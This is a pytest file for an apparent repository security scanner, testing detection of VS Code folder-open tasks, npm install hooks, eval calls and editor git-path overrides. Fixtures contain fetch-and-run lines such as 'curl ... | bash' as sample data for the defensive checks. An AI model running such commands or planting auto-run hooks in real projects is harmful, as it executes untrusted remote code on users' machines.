import json
import time

from reposcan.result import ScanState
from reposcan.rules import CustomDetection, RegexDetection, Rule
from reposcan.scanner import CancellationToken, ScanOptions, Scanner, scan_repository
from reposcan.severity import Severity, Verdict


def write(root, relative, content):
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content, encoding="utf-8")
    return path


def custom_rule(handler="slow", patterns=("*.js",)):
    return Rule(
        id=f"custom-{handler}",
        name="Custom rule",
        description="Custom rule description",
        severity=Severity.LOW,
        category="test",
        file_patterns=tuple(patterns),
        detect=CustomDetection(handler=handler),
    )


def test_folder_open_task_is_high(tmp_path):
    tasks = {
        "version": "2.0.0",
        "tasks": [{"label": "setup", "command": "echo hi", "runOptions": {"runOn": "folderOpen"}}],
    }
    write(tmp_path, ".vscode/tasks.json", json.dumps(tasks, indent=2))

    result = scan_repository(tmp_path)

    assert result.verdict is Verdict.HIGH
    assert [finding.rule_id for finding in result.findings] == ["vscode-task-auto-run"]
    finding = result.findings[0]
    assert finding.file == ".vscode/tasks.json"
    assert finding.line == 8
    assert result.scanned_files == 1
    assert result.outcome is ScanState.COMPLETED


def test_minimal_folder_open_task_is_high(tmp_path):
    write(tmp_path, ".vscode/tasks.json", '{"tasks":[{"runOn":"folderOpen"}]}')

    result = scan_repository(tmp_path)

    assert result.verdict is Verdict.HIGH
    assert [finding.rule_id for finding in result.findings] == ["vscode-task-auto-run"]
    assert result.findings[0].line == 1
    assert result.findings[0].column == 12


def test_postinstall_script_is_medium(tmp_path):
    package = {"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
    write(tmp_path, "package.json", json.dumps(package, indent=2))

    result = scan_repository(tmp_path)

    assert result.verdict is Verdict.MEDIUM
    assert [finding.rule_id for finding in result.findings] == ["js-postinstall-script"]
    assert result.summary.medium == 1


def test_install_script_uses_json_path(tmp_path):
    package = {"name": "demo", "scripts": {"install": "node-gyp rebuild"}}
    write(tmp_path, "package.json", json.dumps(package, indent=2))

    result = scan_repository(tmp_path)

    install = [finding for finding in result.findings if finding.rule_id == "js-install-script"]
    assert len(install) == 1
    assert install[0].match == '"node-gyp rebuild"'
    assert install[0].line == 4


def test_files_without_rules_are_not_counted(tmp_path):
    write(tmp_path, "README.txt", "eval(everything)")
    write(tmp_path, "notes/todo.txt", "curl http://x | bash")

    result = scan_repository(tmp_path)

    assert result.verdict is Verdict.LOW
    assert result.findings == []
    assert result.scanned_files == 0


def test_regex_finding_location(tmp_path):
    write(tmp_path, "test.js", "line1\nline2\neval(x)")

    result = scan_repository(tmp_path)

    assert [(f.rule_id, f.file, f.line, f.column) for f in result.findings] == [
        ("js-eval-usage", "test.js", 3, 1)
    ]
    assert result.verdict is Verdict.MEDIUM


def test_default_exclusions_prune_directories(tmp_path):
    write(tmp_path, "node_modules/pkg/index.js", "eval(x)")
    write(tmp_path, "src/dist/bundle.js", "eval(x)")
    write(tmp_path, "src/app.js", "const ok = 1;")

    result = scan_repository(tmp_path)

    assert result.findings == []
    assert result.scanned_files == 1


def test_custom_exclusions_replace_defaults(tmp_path):
    write(tmp_path, "node_modules/pkg/index.js", "eval(x)")
    write(tmp_path, "vendor/lib.js", "eval(x)")
    write(tmp_path, "src/generated/api.js", "eval(x)")

    result = scan_repository(tmp_path, exclude_patterns=("vendor", "src/generated"))

    assert [finding.file for finding in result.findings] == ["node_modules/pkg/index.js"]


def test_hidden_entries_skipped_except_editor_config(tmp_path):
    write(tmp_path, ".hidden/evil.js", "eval(x)")
    write(tmp_path, ".secret.js", "eval(x)")
    write(tmp_path, ".vscode/settings.json", '{"git.path": "/tmp/git"}')

    result = scan_repository(tmp_path)

    assert [finding.rule_id for finding in result.findings] == ["vscode-settings-git-path-override"]
    assert result.scanned_files == 1


def test_large_files_are_skipped(tmp_path):
    write(tmp_path, "big.js", "eval(x);" + " " * 200)

    result = scan_repository(tmp_path, max_file_size=100)

    assert result.findings == []
    assert result.scanned_files == 0


def test_missing_root_yields_empty_result(tmp_path):
    result = scan_repository(tmp_path / "does-not-exist")

    assert result.verdict is Verdict.LOW
    assert result.findings == []
    assert result.scanned_files == 0
    assert result.outcome is ScanState.COMPLETED


def test_findings_follow_sorted_traversal(tmp_path):
    write(tmp_path, "b.js", "eval(b)")
    write(tmp_path, "a.js", "eval(a)")
    write(tmp_path, "lib/c.js", "eval(c)")

    result = scan_repository(tmp_path)

    assert [finding.file for finding in result.findings] == ["a.js", "b.js", "lib/c.js"]
    assert result.scanned_files == 3


def test_verdict_is_highest_severity(tmp_path):
    write(tmp_path, "a.js", "eval(x)")
    write(tmp_path, "install.sh", "curl https://example.com/x.sh | bash")

    result = scan_repository(tmp_path)

    assert result.verdict is Verdict.HIGH
    assert result.summary.high >= 1
    assert result.summary.medium >= 1
    assert result.exit_code() == 2


def test_pre_cancelled_token_aborts_immediately(tmp_path):
    write(tmp_path, "a.js", "eval(x)")
    token = CancellationToken()
    token.cancel()

    scanner = Scanner(ScanOptions(root_path=tmp_path))
    result = scanner.scan(token)

    assert result.outcome is ScanState.ABORTED
    assert result.findings == []
    assert result.scanned_files == 0
    assert scanner.state is ScanState.ABORTED


def test_abort_during_scan_keeps_partial_results(tmp_path):
    for name in ("a.js", "b.js", "c.js"):
        write(tmp_path, name, "eval(x)")
    eval_rule = Rule(
        id="test-eval",
        name="eval",
        description="eval call",
        severity=Severity.MEDIUM,
        category="test",
        file_patterns=("*.js",),
        detect=RegexDetection(pattern=r"eval\(", flags="g"),
    )
    scanner = None

    def stop(rule, file, content):
        scanner.abort()
        return []

    scanner = Scanner(
        ScanOptions(root_path=tmp_path),
        rules=[eval_rule, custom_rule("stop")],
        custom_handlers={"stop": stop},
    )
    result = scanner.scan()

    assert result.outcome is ScanState.ABORTED
    assert result.scanned_files == 1
    assert [finding.file for finding in result.findings] == ["a.js"]
    assert result.verdict is Verdict.MEDIUM


def test_abort_before_scan_applies_to_next_scan_only(tmp_path):
    write(tmp_path, "a.js", "eval(x)")
    scanner = Scanner(ScanOptions(root_path=tmp_path))
    scanner.abort()

    first = scanner.scan()
    second = scanner.scan()

    assert first.outcome is ScanState.ABORTED
    assert first.scanned_files == 0
    assert second.outcome is ScanState.COMPLETED
    assert second.scanned_files == 1


def test_timeout_stops_traversal(tmp_path):
    for name in ("a.js", "b.js", "c.js"):
        write(tmp_path, name, "x")

    def slow(rule, file, content):
        time.sleep(0.05)
        return []

    scanner = Scanner(
        ScanOptions(root_path=tmp_path, timeout_ms=10),
        rules=[custom_rule("slow")],
        custom_handlers={"slow": slow},
    )
    result = scanner.scan()

    assert result.outcome is ScanState.TIMED_OUT
    assert result.scanned_files == 1
    assert result.scan_duration_ms >= 10


def test_result_serialization(tmp_path):
    write(tmp_path, "test.js", "eval(x)")

    data = scan_repository(tmp_path).to_dict()

    assert data["verdict"] == "medium"
    assert data["outcome"] == "completed"
    assert data["summary"] == {"high": 0, "medium": 1, "low": 0, "info": 0}
    assert data["findings"][0]["severity"] == "medium"
    assert data["findings"][0]["match"] == "eval("
    assert data["timestamp"]
    json.dumps(data)
